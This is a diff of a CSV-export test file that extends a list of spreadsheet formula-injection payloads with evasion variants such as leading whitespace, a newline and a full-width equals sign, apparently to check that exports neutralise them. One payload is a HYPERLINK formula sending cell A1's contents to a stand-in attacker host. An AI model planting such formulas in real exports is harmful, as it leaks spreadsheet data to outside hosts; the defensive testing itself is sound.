@@ -6,7 +6,7 @@ import { addToken } from '../helpers/factories.js';
 import { tokenUrl } from '../helpers/api-checks.js';
 import { startTestApp, type TestApp } from '../helpers/test-app.js';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '\n=1+1', '\u00a0@SUM(A1)', '\uff1d1+1'];
 
 for (const dialect of DIALECTS) {
   describe(`CSV export (${dialect})`, () => {
